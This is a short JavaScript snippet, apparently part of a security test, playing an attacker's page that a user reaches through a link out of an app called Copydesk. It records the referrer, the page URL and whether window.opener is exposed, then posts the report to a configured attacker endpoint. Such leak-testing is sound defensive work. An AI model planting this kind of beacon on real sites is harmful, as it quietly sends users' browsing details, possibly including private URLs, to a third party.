// Where a link out of Copydesk lands on the attacker's site: what the attacker learns of
// the page the user came from.
(async () => {
  const { reportUrl } = window.ATTACK;
  const report = { attempts: [], reads: [], referrer: document.referrer, href: location.href, openerVisible: window.opener !== null };
  await fetch(reportUrl, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) });
})();
